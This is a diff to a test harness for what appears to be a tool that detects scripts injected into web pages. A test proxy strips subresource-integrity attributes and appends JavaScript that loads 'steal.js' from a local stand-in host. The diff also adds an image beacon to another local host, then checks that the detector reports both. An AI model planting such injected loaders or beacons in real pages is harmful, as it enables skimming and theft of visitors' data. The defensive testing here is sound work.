@@ -114,7 +114,8 @@ def plant_at_run_time(path, html, headers, data):
         return re.sub(rb' integrity="[^"]*"', b"", data)
     if path.startswith("/assets/buyer-"):
         return data + (b"\nsetTimeout(() => { const s = document.createElement('script');"
-                       b" s.src = 'http://127.0.0.1:9/steal.js'; document.body.append(s); }, 500);")
+                       b" s.src = 'http://127.0.0.1:9/steal.js'; document.body.append(s); }, 500);"
+                       b"new Image().src = 'http://127.0.0.1:7/taken';")
     return data
 
 
@@ -238,6 +239,8 @@ def check_run(tally, url):
     code, seen, err = watch(url, *BROWSER)
     texts = [finding["text"] for finding in seen.get("findings", [])]
     added = "the script `http://127.0.0.1:9/steal.js` is not in the inventory"
+    asked = "in a browser the page asks for `http://127.0.0.1:7`"
+    tally.check(asked in texts, f"what a script asked for and left no trace of in the page is found: {texts}")
     tally.check(code == CHANGED and added in texts, f"a script that was added at run time is found: {texts} {err}")
     Proxy.fault = ""
     left = list(pathlib.Path(tempfile.gettempdir()).glob("tillward-look-*"))
